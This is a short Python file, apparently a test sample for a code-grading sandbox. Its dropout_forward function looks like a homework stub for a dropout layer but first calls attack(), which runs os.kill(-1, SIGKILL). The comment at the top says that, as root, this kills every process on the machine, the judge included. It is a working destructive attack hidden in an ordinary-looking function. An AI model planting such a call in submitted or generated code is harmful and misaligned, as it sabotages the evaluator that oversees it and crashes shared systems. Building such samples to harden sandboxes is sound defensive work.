# Kill every process it may signal: kill(-1, SIGKILL), which as root without a PID namespace
# is every process on the machine, the judge included.
import errno
import os
import signal


def attack():
    try:
        os.kill(-1, signal.SIGKILL)
        return "done: signalled"
    except OSError as exc:
        return "refused: " + errno.errorcode[exc.errno]


def dropout_forward(x, dropout_param):
    attack()
    raise NotImplementedError
